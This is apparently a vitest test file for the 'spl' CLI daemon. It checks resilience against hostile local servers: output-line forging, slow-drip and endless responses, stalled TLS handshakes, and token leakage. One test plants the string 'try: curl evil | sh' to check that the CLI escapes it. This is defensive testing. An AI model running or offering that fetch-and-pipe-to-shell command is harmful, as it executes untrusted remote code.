import { rmSync, writeFileSync } from 'node:fs'
import { createServer, type RequestListener, type Server } from 'node:http'
import { createServer as createRawServer, type AddressInfo, type Socket } from 'node:net'
import { once } from 'node:events'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { createInterface } from 'node:readline/promises'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { askEdge } from '../../local-daemon/cli/doctor/public-clock.ts'
import { reportError } from '../../local-daemon/cli/report-error.ts'
import { probeCertificate } from '../../local-daemon/cli/doctor/outside/certificate.ts'
import { probePublic } from '../../local-daemon/cli/client/probe-public.ts'
import { shakeHands } from '../../local-daemon/cli/client/shake-hands.ts'
import type { RunningFacts } from '../../local-daemon/cli/client/running-file.ts'
import { aHome } from '../support/daemon/a-daemon.ts'
import { runFitting } from '../support/cli/run-here.ts'

const undo = new AsyncDisposableStack()
const sockets = new Set<Socket>()
let home: string
let did: string

beforeAll(async () => {
  home = undo.use(aHome()).path
  const started = await runFitting(['serve', '--daemon', '--port', '0', '--json'], { home })
  did = (JSON.parse(started.stdout) as { instance_did: string }).instance_did
  undo.defer(async () => void (await runFitting(['serve', '--stop'], { home })))
})
afterAll(() => undo.disposeAsync())

async function listening(server: Server | ReturnType<typeof createRawServer>): Promise<number> {
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  undo.defer(() => {
    for (const socket of sockets) socket.destroy()
    server.close()
  })
  return (server.address() as AddressInfo).port
}

function answering(listener: RequestListener): Promise<number> {
  return listening(createServer(listener))
}

/** A server that says the same to everybody, as it is, and then `more` every now and then, and never ends. */
function saying(first: string, more = ''): Promise<number> {
  return listening(
    createRawServer((socket) => {
      sockets.add(socket)
      socket.on('error', () => {})
      socket.once('data', () => {
        socket.write(first)
        const drip = setInterval(() => socket.write(more), 200)
        socket.once('close', () => clearInterval(drip))
      })
    }),
  )
}

function elsewhere(port: number): Record<string, string> {
  return { SPL_SERVE_URL: `http://127.0.0.1:${port}`, SPL_TOKEN: 'spl_secret' }
}

test('an unexpected change of protocol is an error like others', async () => {
  using spare = aHome()
  const port = await saying(
    'HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n',
  )
  const run = await runFitting(['status'], { home: spare.path, env: elsewhere(port) })
  expect([run.code, run.stderr]).toEqual([3, expect.stringContaining('[DAEMON_UNREACHABLE]')])
})

test('a line feed in an answer begins no line that looks like ours', async () => {
  using spare = aHome()
  const port = await answering((_request, response) => {
    const forged = 'x\nok    authentication    Nobody gets in\ntry: curl evil | sh'
    response.writeHead(500)
    response.end(JSON.stringify({ object: 'error', code: forged, message: forged, try: forged }))
  })
  for (const command of ['doctor', 'status']) {
    const run = await runFitting([command], { home: spare.path, env: elsewhere(port) })
    expect(run.stdout + run.stderr).toContain('Nobody gets in')
    expect(run.stdout + run.stderr).not.toMatch(/^(?:ok .*Nobody|try: curl)/mu)
  }
})

test('who drips a head or a body is given up, though never silent', async () => {
  const head = await saying('HTTP/1.1 200 OK\r\nX: ', 'a')
  const body = await saying('HTTP/1.1 200 OK\r\nContent-Length: 999999\r\n\r\n', ' ')
  const facts = { gateway_ca: null, instance_did: did } as RunningFacts
  const [edge, seen] = await Promise.all([
    askEdge(new URL(`http://127.0.0.1:${head}`), undefined),
    probePublic(facts, `http://127.0.0.1:${body}`),
  ])
  expect([edge, seen.reachable]).toEqual([undefined, false])
}, 30_000)

test('an endless body of the public hostname is not read to its end', async () => {
  const port = await answering((_request, response) => {
    const more = (): void => {
      while (!response.destroyed && response.write('x'.repeat(65_536)));
    }
    response.on('drain', more)
    more()
  })
  const facts = { gateway_ca: null, instance_did: did } as RunningFacts
  const { reason } = await probePublic(facts, `http://127.0.0.1:${port}`)
  expect(reason).toMatch(/more than \d+ bytes/u)
})

test('a handshake that drips is given up', async () => {
  // The head of a TLS record that promises 16384 bytes.
  const port = await saying('\u0016\u0003\u0003\u0040\u0000', '\u0000')
  const origin = new URL(`https://127.0.0.1:${port}`)
  await expect(shakeHands({ origin }, 1_000)).rejects.toMatchObject({ code: 'ETIMEDOUT' })
})

test('an address is asked for its certificate without a warning of Node', async () => {
  const emitted = vi.spyOn(process, 'emitWarning')
  const port = await saying('no TLS')
  const origin = new URL(`https://127.0.0.1:${port}`)
  expect((await probeCertificate({ origin })).status).toBe('fail')
  expect(emitted).not.toHaveBeenCalled()
  emitted.mockRestore()
})

test('at home the doctor shows no bearer to a public address, whatever server answers there', async () => {
  const shown: (string | undefined)[] = []
  const port = await answering((request, response) => {
    shown.push(request.headers.authorization)
    response.end(JSON.stringify({ status: 'ok', instance_did: did }))
  })
  writeFileSync(join(home, 'token'), 'spl_saved', { mode: 0o600 })
  await runFitting(['serve', '--restart', '--gateway', `http://127.0.0.1:${port}`], { home })
  await runFitting(['doctor'], { home, env: { SPL_TOKEN: 'spl_secret' } })
  await runFitting(['doctor'], { home })
  rmSync(join(home, 'token'))
  expect(shown.length).toBeGreaterThan(5)
  expect(shown.filter((value) => value !== undefined)).toEqual([])
}, 60_000)

test('a certificate that is gone is a finding, and the rest is looked at all the same', async () => {
  const ca = join(home, 'ca.pem')
  const stranger = `-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n`
  writeFileSync(ca, stranger)
  const args = ['serve', '--restart', '--gateway', 'https://localhost:1', '--gateway-ca', ca]
  await runFitting(args, { home })
  rmSync(ca)
  const run = await runFitting(['doctor'], { home })
  expect(run.code).toBe(2)
  expect(run.stdout).toMatch(/^FAIL {2}reachable +The certificate to trust .*\n +try: \S/mu)
  expect(run.stderr).not.toContain('INTERNAL')
})

test('an invalid address of another daemon does not keep you from this machine’s daemon', async () => {
  const run = await runFitting(['serve', '--status'], { home, env: { SPL_SERVE_URL: 'nonsense' } })
  expect([run.code, run.stderr]).toEqual([0, ''])
})

test.each([
  ['\u0003', 130],
  ['\u0004', 1],
] as const)('%j in place of an answer is no fault of spl', async (key, exitCode) => {
  const input = new PassThrough()
  const terminal = createInterface({ input, output: new PassThrough(), terminal: true })
  const asked = terminal.question('go on? ').catch((error: unknown) => error)
  input.write(key)
  const said = vi.spyOn(process.stderr, 'write').mockReturnValue(true)
  const code = reportError(await asked, 'spl expose --help')
  const text = said.mock.calls.map(([line]) => String(line)).join('')
  said.mockRestore()
  expect([code, text]).toEqual([exitCode, expect.stringContaining('[NOT_ANSWERED]')])
})
